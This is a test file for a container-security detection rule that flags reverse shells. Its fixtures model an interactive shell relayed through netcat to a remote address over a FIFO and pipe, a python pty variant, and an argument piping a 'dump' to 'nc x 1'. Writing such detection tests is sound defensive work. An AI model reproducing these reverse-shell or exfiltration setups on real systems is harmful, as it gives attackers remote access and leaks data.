import { evaluateRule } from 'salvor/testing'
import { expect, test } from 'vitest'
import rule from '../../../dist/plugins/rules/execution/relayed-shell.js'

const shell = { pid: 7, ppid: 6, comm: 'sh', exe: '/usr/bin/dash', args: ['sh', '-i'], container: 'c1' }
const relay = { pid: 6, ppid: 1, comm: 'nc', exe: '/usr/bin/nc', args: ['nc', '203.0.113.9', '443'], container: 'c1' }
const connection = { pid: 6, family: 'inet', state: 'ESTABLISHED', remote_address: '203.0.113.9', remote_port: 443 }
const piped = [
  { pid: 7, fd: 0, type: 'fifo', path: '/tmp/f', flags: '0100000' },
  { pid: 7, fd: 1, type: 'pipe', path: 'pipe:[5]', flags: '01' },
  { pid: 6, fd: 0, type: 'pipe', path: 'pipe:[5]', flags: '0100000' },
]
const typed = [
  { pid: 7, fd: 0, type: 'character', path: '/dev/pts/0', flags: '02' },
  { pid: 7, fd: 1, type: 'character', path: '/dev/pts/0', flags: '02' },
  { pid: 6, fd: 3, type: 'character', path: '/dev/ptmx', flags: '02' },
]
const find = (files: object[], processes: object[] = [shell, relay], sockets: object[] = [connection]) =>
  evaluateRule(rule, { files, processes, sockets })

test('a shell with pipes to what is connected, or with the terminal of it', () => {
  expect(find(piped)).toMatchObject([{ about: { pid: 7, container: 'c1' }, severity: 'high' }])
  const python = { ...relay, exe: '/usr/bin/python3.11', comm: 'python3', args: ['python3', '-c', 'import pty'] }
  expect(find(typed, [shell, python])).toMatchObject([{ about: { pid: 7 }, severity: 'high' }])
})

test('a notebook that gives a terminal is less', () => {
  const jupyter = { ...relay, exe: '/usr/bin/python3.11', args: ['python3', '/usr/bin/jupyter-lab'] }
  expect(find(typed, [shell, jupyter])).toMatchObject([{ severity: 'medium' }])
})

test('a login by SSH on the host is none, but one below what is only called so is', () => {
  const sshd = { ...relay, exe: '/usr/sbin/sshd', comm: 'sshd', container: null }
  expect(find(typed, [{ ...shell, container: null }, sshd])).toEqual([])
  expect(find(typed, [shell, { ...sshd, exe: '/tmp/sshd' }])).toMatchObject([{ severity: 'high' }])
})

test.each([
  ['a script', piped, [{ ...shell, args: ['sh', '-c', 'dump | nc x 1'] }, relay], [connection]],
  ['no connection', piped, [shell, relay], []],
  ['a listener alone', piped, [shell, relay], [{ ...connection, state: 'LISTEN', remote_port: 0 }]],
  ['who writes to the pipe', piped.map((file) => ({ ...file, flags: '01' })), [shell, relay], [connection]],
  ['nothing known', piped.map((file) => ({ ...file, path: null })), [shell, relay], [connection]],
])('%s is none', (_, files, processes, sockets) => {
  expect(find(files, processes, sockets)).toEqual([])
})
